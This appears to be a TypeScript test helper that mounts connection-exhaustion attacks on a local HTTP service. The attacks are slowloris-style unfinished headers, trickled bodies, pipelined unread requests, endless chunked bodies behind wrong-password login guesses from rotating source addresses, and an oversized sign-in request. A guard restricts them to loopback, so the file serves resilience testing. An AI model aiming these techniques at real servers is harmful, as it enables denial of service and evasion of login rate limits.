/** Attacks on the service's connections, without credentials. Bounded, and against loopback only. */
import { once } from "node:events";
import { connect, type Socket } from "node:net";

export interface Attack {
  /** Connections that the service hasn't closed. */
  readonly open: number;
  /** Connections that the service has closed, or that were refused. */
  readonly closed: number;
  stop(): Promise<void>;
}

export interface PipelineChoices {
  readonly connections?: number;
  readonly requests?: number;
  /** What is repeated behind the first request. */
  readonly request?: string;
}

/** Each connection sends many requests at once and reads no answer. Resolves when all is sent, as far as the service takes it. */
export async function pipelineUnread(
  url: string,
  { connections = 100, requests = 1_400, request }: PipelineChoices = {},
): Promise<Attack> {
  const first = `GET /openapi.json HTTP/1.1\r\nHost: ${loopbackOf(url).host}\r\n\r\n`;
  const attack = new ManyConnections(url, connections);
  await attack.connected((socket) => socket.pause().write(first + (request ?? first).repeat(requests - 1)));
  return attack;
}

/** Requests that Node's server answers by itself, unless it is made not to. */
export const ANSWERED_BY_NODE = [
  { name: "HTTP/1.1 without Host", request: "GET / HTTP/1.1\r\n\r\n" },
  { name: "an unknown Expect", request: "GET / HTTP/1.1\r\nHost:x\r\nExpect:x\r\n\r\n" },
];

/** Each connection sends wrong logins, which take a while, and behind them a body in pieces of one byte that never ends. */
export async function chunkBehindLogins(url: string, { connections }: { readonly connections: number }): Promise<Attack> {
  const { host } = loopbackOf(url);
  const login = (name: string) =>
    `GET /auth/verify HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Basic ${btoa(`${name}:wrong`)}\r\nx-api-key: ${name}\r\n\r\n`;
  const body = `POST /callbacks HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n${"1\r\nx\r\n".repeat(40_000)}`;
  // An address may have four logins at a time.
  const attack = new ManyConnections(url, connections, (index) => `127.0.1.${1 + (index >> 2)}`);
  await attack.connected((socket, index) => {
    const logins = Array.from({ length: 3 }, (_, number) => login(`guess-${index}-${number}`));
    socket.resume().write(logins.join("") + body);
  });
  return attack;
}

/** Each connection sends as many headers as fit into 15 KiB, and never the end of its request. */
export async function neverEndHeaders(url: string, { connections }: { readonly connections: number }): Promise<Attack> {
  const headers = Array.from({ length: 1_600 }, (_, index) => `a${index.toString(36)}:${(index + 1296).toString(36)}\r\n`);
  const attack = new ManyConnections(url, connections);
  await attack.connected((socket) => socket.resume().write(`GET / HTTP/1.1\r\n${headers.join("")}`));
  return attack;
}

export interface TrickleChoices {
  readonly connections: number;
  /** One byte of it is sent now and then. */
  readonly request?: string;
  readonly everyMs?: number;
}

/** Each connection gets an answer and never finishes its request's body. */
export async function trickleBodies(url: string, { connections, request, everyMs = 200 }: TrickleChoices): Promise<Attack> {
  const head = request ?? `GET /healthz HTTP/1.1\r\nHost: ${loopbackOf(url).host}\r\nContent-Length: 1000000\r\n\r\n`;
  const attack = new ManyConnections(url, connections);
  await attack.connected((socket) => socket.resume().write(head));
  attack.every(everyMs, (socket) => socket.write("x"));
  return attack;
}

/** Headers, query and trailers take about as much memory as a request may. The end of the last trailer is missing. */
export function largestSignIn(url: string): string {
  const many = (count: number, nameLength: number, rest: string): string[] =>
    Array.from({ length: count }, (_, index) => `X${`${index}`.padStart(nameLength, "A")}${rest}`);
  const query = many(195, 5, `+=${"B".repeat(50)}+`).join("&");
  const headers = [
    `Host: ${loopbackOf(url).host}`,
    "Content-Type: application/x-www-form-urlencoded",
    "Transfer-Encoding: chunked",
  ];
  const head = [...headers, ...many(95, 9, `:${"C".repeat(9)}`)].join("\r\n");
  const trailers = many(100, 70, `:${"D".repeat(80)}`).join("\r\n");
  return `POST /console/sign-in?${query} HTTP/1.1\r\n${head}\r\n\r\n1\r\na\r\n0\r\n${trailers}`;
}

class ManyConnections implements Attack {
  readonly #sockets: readonly Socket[];
  #timer: NodeJS.Timeout | undefined;

  constructor(url: string, count: number, addressOf: (index: number) => string | undefined = () => undefined) {
    const { hostname: host, port } = loopbackOf(url);
    this.#sockets = Array.from({ length: count }, (_, index) => {
      const localAddress = addressOf(index);
      return connect({ host, port: Number(port), ...(localAddress && { localAddress }) });
    });
    for (const socket of this.#sockets) socket.on("error", () => undefined);
  }

  async connected(handler: (socket: Socket, index: number) => void): Promise<void> {
    const outcomes = this.#sockets.map(async (socket, index) => {
      await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => undefined);
      if (!socket.destroyed) handler(socket, index);
    });
    await Promise.all(outcomes);
  }

  every(ms: number, handler: (socket: Socket) => void): void {
    this.#timer = setInterval(() => {
      for (const socket of this.#sockets) if (!socket.destroyed) handler(socket);
    }, ms);
  }

  get open(): number {
    return this.#sockets.filter(({ destroyed }) => !destroyed).length;
  }

  get closed(): number {
    return this.#sockets.length - this.open;
  }

  async stop(): Promise<void> {
    clearInterval(this.#timer);
    await Promise.all(this.#sockets.map((socket) => (socket.destroyed ? undefined : once(socket.destroy(), "close"))));
  }
}

/** Throws for a host that isn't this machine, because these requests do harm. */
function loopbackOf(url: string): URL {
  const parsed = new URL(url);
  if (!/^(?:127\.|localhost$|\[::1\]$)/.test(parsed.hostname)) throw new Error("attacks are for loopback only");
  return parsed;
}
